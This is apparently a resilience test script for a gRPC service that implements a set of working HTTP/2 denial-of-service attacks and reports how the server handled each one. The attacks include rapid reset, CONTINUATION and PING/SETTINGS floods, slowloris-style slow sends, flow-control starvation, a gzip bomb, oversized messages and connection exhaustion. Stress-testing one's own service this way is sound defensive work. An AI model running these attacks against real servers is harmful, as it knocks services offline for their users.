"""Attacks on the service's HTTP/2, one a run, by somebody who may connect. One JSON line on stdout: what was sent and what became
of the connections.

    flood.py ATTACK --target unix:/path|host:port [--ca PEM --cert PEM --key PEM] --path /package.Service/Method --message HEX
"""

import argparse
import gzip
import json
import select
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack
from h2.settings import SettingCodes
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# How long a held connection is waited for: no figure, only an end.
PATIENCE = 60


class Closed(Exception):
    """The service closed the connection."""


class Wire:
    """A connection to the service, of bytes."""

    def __init__(self, given, shake_hands=True):
        if given.target.startswith("unix:"):
            self.socket = socket.socket(socket.AF_UNIX)
            self.socket.connect(given.target[5:])
        else:
            host, port = given.target.rsplit(":", 1)
            self.socket = socket.create_connection((host, int(port)))
            if shake_hands:
                self.socket = tls(given).wrap_socket(self.socket, server_hostname=host)
        self.socket.settimeout(5)

    def send(self, data):
        """False when nothing more is taken for five seconds."""
        try:
            self.socket.sendall(data)
            return True
        except TimeoutError:
            return False
        except OSError as error:
            raise Closed from error

    def received(self, wait=0):
        """What is there; empty when nothing is."""
        pending = isinstance(self.socket, ssl.SSLSocket) and self.socket.pending()
        if not pending and not select.select([self.socket], [], [], wait)[0]:
            return b""
        try:
            data = self.socket.recv(65536)
        except (TimeoutError, ssl.SSLWantReadError):
            return b""
        except OSError as error:
            raise Closed from error
        if not data:
            raise Closed
        return data

    def wait_for_the_end(self):
        """Whether the service closes it. What comes is read: a closed socket shows only behind it."""
        until = time.monotonic() + PATIENCE
        try:
            while time.monotonic() < until:
                self.received(0.2)
        except Closed:
            return True
        return False

    def is_cut(self):
        """As `wait_for_the_end`, but nothing is read before the end."""
        poll = select.poll()
        poll.register(self.socket, select.POLLHUP | select.POLLERR | select.POLLRDHUP)
        return bool(poll.poll(PATIENCE * 1000))

    def close(self):
        self.socket.close()


def tls(given):
    context = ssl.create_default_context(cafile=given.ca)
    context.load_cert_chain(given.cert, given.key)
    context.set_alpn_protocols(["h2"])
    return context


class Peer(Wire):
    """A connection that speaks HTTP/2."""

    def __init__(self, given, window=None):
        super().__init__(given)
        self.given = given
        self.http = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
        self.http.initiate_connection()
        if window is not None:
            self.http.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: window})
        self.flush()

    def flush(self):
        return self.send(self.http.data_to_send())

    def headers(self, *more):
        return [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", self.given.path),
            (":authority", "localhost"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            *more,
        ]

    def open(self, *more):
        stream = self.http.get_next_available_stream_id()
        self.http.send_headers(stream, self.headers(*more))
        return stream

    def events(self, wait=0):
        data = self.received(wait)
        try:
            events = self.http.receive_data(data) if data else []
            self.flush()
        except h2.exceptions.ProtocolError as error:
            raise Closed from error
        return events

    def status(self, stream):
        """The gRPC status of an answer."""
        until = time.monotonic() + PATIENCE
        found = None
        while time.monotonic() < until:
            for event in self.events(0.2):
                if getattr(event, "stream_id", None) != stream:
                    continue
                found = dict(getattr(event, "headers", None) or []).get("grpc-status", found)
                if isinstance(event, h2.events.StreamReset):
                    return found or f"reset {int(event.error_code)}"
                if isinstance(event, h2.events.StreamEnded):
                    return found
        return found


def message(given, payload=None, flag=0, length=None):
    payload = given.message if payload is None else payload
    return struct.pack(">BI", flag, len(payload) if length is None else length) + payload


def again_and_again(given, times, burst):
    """Bursts over as many connections as it takes; `burst(peer)` answers how much it sent, and `Closed` ends a connection."""
    sent = connections = closed = 0
    while sent < times and connections < 200:
        peer = Peer(given)
        connections += 1
        try:
            while sent < times:
                sent += burst(peer)
                peer.received()
        except Closed:
            closed += 1
        peer.close()
    return {"sent": sent, "connections": connections, "closed": closed}


def rapid_reset(given):
    def burst(peer):
        for _ in range(50):
            stream = peer.open()
            peer.http.reset_stream(stream)
        if not peer.flush():
            raise Closed
        return 50

    return again_and_again(given, 10_000, burst)


def raw_headers(given, stream=1, flags=("END_HEADERS",)):
    block = hpack.Encoder().encode([(":method", "POST"), (":scheme", "http"), (":path", given.path), (":authority", "x")])
    return HeadersFrame(stream, block, flags=flags)


def continuation(given):
    """A header block that never ends."""
    sent = closed = 0
    for _ in range(20):
        peer = Peer(given)
        try:
            peer.send(raw_headers(given, flags=()).serialize())
            piece = ContinuationFrame(1, hpack.Encoder().encode([("x-filler", "a" * 12_000)])).serialize()
            for _ in range(500):
                if not peer.send(piece):
                    break
                sent += 1
                peer.received()
        except Closed:
            closed += 1
        peer.close()
    return {"sent": sent, "connections": 20, "closed": closed}


def frames_of(count, frame, after=b""):
    """Frames that cost the sender nothing, whose answers nobody reads."""

    def attack(given):
        sent = held = 0
        peer = Peer(given)
        try:
            peer.send(after(given) if after else b"")
            batch = frame * 1000
            while sent < count:
                if not peer.send(batch):
                    held = 1
                    break
                sent += 1000
            closed = peer.is_cut() if held else False
        except Closed:
            closed = True
        peer.close()
        return {"sent": sent, "connections": 1, "closed": int(closed), "held": held}

    return attack


empty_data = frames_of(200_000, DataFrame(1, b"").serialize(), lambda given: raw_headers(given).serialize())
ping_flood = frames_of(2_000_000, PingFrame(0, b"attacked").serialize())
settings_flood = frames_of(2_000_000, SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize())


def slow_read(given):
    """Answers are asked for and no room is given to them; pings are answered, so that the connection seems alive."""
    peer = Peer(given, window=0)
    try:
        for _ in range(given.streams):
            stream = peer.open()
            peer.http.send_data(stream, message(given), end_stream=True)
        peer.flush()
        until = time.monotonic() + PATIENCE
        while time.monotonic() < until:
            peer.events(0.2)
        closed = 0
    except Closed:
        closed = 1
    peer.close()
    return {"sent": given.streams, "connections": 1, "closed": closed}


def no_read(given):
    """Room for every answer, and not a byte of one is read: what the service writes stays with it."""
    peer = Peer(given, window=(1 << 31) - 1)
    try:
        peer.http.increment_flow_control_window((1 << 31) - 1 - 65535)
        for _ in range(given.streams):
            stream = peer.open()
            for _ in range(20):
                peer.http.send_data(stream, message(given))
            peer.http.end_stream(stream)
        peer.flush()
        closed = peer.is_cut()
    except Closed:
        closed = True
    peer.close()
    return {"sent": given.streams * 20, "connections": 1, "closed": int(closed)}


def byte_by_byte(given, data, count, start=b"", shake_hands=True):
    """`count` connections that send their bytes one at a time, as long as the service lets them."""
    wires = [Wire(given, shake_hands) for _ in range(count)]
    closed = sent = 0
    for wire in wires:
        wire.send(start)
    until = time.monotonic() + PATIENCE
    while wires and time.monotonic() < until:
        for wire in list(wires):
            try:
                if sent // count < len(data):
                    wire.send(data[sent // count : sent // count + 1])
                sent += 1
                wire.received()
            except Closed:
                closed += 1
                wires.remove(wire)
                wire.close()
        time.sleep(0.1)
    for wire in wires:
        wire.close()
    return {"sent": sent, "connections": count, "closed": closed}


def slow_handshake(given):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    hello = tls(given).wrap_bio(incoming, outgoing, server_hostname="127.0.0.1")
    try:
        hello.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return byte_by_byte(given, outgoing.read(), 100, shake_hands=False)


def slow_preface(given):
    return byte_by_byte(given, PREFACE, 60)


def slow_headers(given):
    return byte_by_byte(given, raw_headers(given).serialize(), 60, PREFACE + SettingsFrame(0).serialize())


def slow_body(given):
    """The header of a request, and a body that never comes."""
    peers = [Peer(given) for _ in range(2)]
    closed = 0
    for peer in peers:
        # Fewer than one principal may have at once: the honest callers are the same one.
        for _ in range(40):
            peer.open()
        peer.flush()
    for peer in peers:
        closed += peer.wait_for_the_end()
        peer.close()
    return {"sent": 80, "connections": 2, "closed": closed}


def one_request(given, *more, **how):
    statuses = {}
    for _ in range(20):
        peer = Peer(given)
        stream = peer.open(*more)
        try:
            peer.http.send_data(stream, message(given, **how), end_stream=True)
            peer.flush()
            status = peer.status(stream)
        except Closed:
            status = "closed"
        statuses[str(status)] = statuses.get(str(status), 0) + 1
        peer.close()
    return {"sent": 20, "connections": 20, "statuses": statuses}


def length(given):
    return one_request(given, length=0xFFFFFFFF)


def compressed(given):
    return one_request(given, ("grpc-encoding", "gzip"), payload=gzip.compress(bytes(10 << 20)), flag=1)


def big_headers(given):
    """Headers of 64 KiB where 16 are taken."""
    more = [(f"x-filler-{number}", "a" * 1000) for number in range(64)]
    statuses = {}
    for _ in range(20):
        peer = Peer(given)
        try:
            stream = peer.open(*more)
            peer.http.send_data(stream, message(given), end_stream=True)
            peer.flush()
            status = peer.status(stream)
        except Closed:
            status = "closed"
        statuses[str(status)] = statuses.get(str(status), 0) + 1
        peer.close()
    return {"sent": 20, "connections": 20, "statuses": statuses}


def big_message(given):
    """A message of 100 MiB to a method that takes kilobytes."""
    sent, statuses = 0, {}
    for _ in range(5):
        peer = Peer(given)
        stream = peer.open()
        try:
            peer.http.send_data(stream, struct.pack(">BI", 0, 100 << 20))
            while sent < 100 << 20:
                room = min(peer.http.local_flow_control_window(stream), 16384)
                if room == 0:
                    ended = [event for event in peer.events(0.2) if isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset))]
                    if ended:
                        break
                    continue
                peer.http.send_data(stream, bytes(room))
                peer.flush()
                sent += room
            status = "ended"
        except (Closed, h2.exceptions.ProtocolError):
            status = "closed"
        statuses[status] = statuses.get(status, 0) + 1
        peer.close()
    return {"sent": sent, "connections": 5, "statuses": statuses}


def connections(given):
    """As many as can be had, opened and left alone."""
    wires, refused = [], 0
    for _ in range(500):
        try:
            wires.append(Wire(given, shake_hands=not given.no_handshake))
        except OSError:
            refused += 1
    closed = refused + sum(wire.wait_for_the_end() for wire in wires)
    return {"sent": 500, "connections": len(wires), "closed": closed}


ATTACKS = {
    name.replace("_", "-"): attack
    for name, attack in globals().copy().items()
    if name
    in (
        "rapid_reset continuation empty_data ping_flood settings_flood slow_read no_read slow_handshake slow_preface slow_headers "
        "slow_body length compressed big_headers big_message connections"
    ).split()
}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--target", required=True)
    parser.add_argument("--ca")
    parser.add_argument("--cert")
    parser.add_argument("--key")
    parser.add_argument("--path", required=True)
    parser.add_argument("--message", type=bytes.fromhex, default=b"")
    parser.add_argument("--streams", type=int, default=60)
    parser.add_argument("--no-handshake", action="store_true", help="without a TLS handshake")
    given = parser.parse_args()
    try:
        answer = ATTACKS[given.attack](given)
    except Exception as error:
        print(json.dumps({"error": type(error).__name__, "message": str(error)}))
        raise
    print(json.dumps(answer))
    return 0


if __name__ == "__main__":
    sys.exit(main())
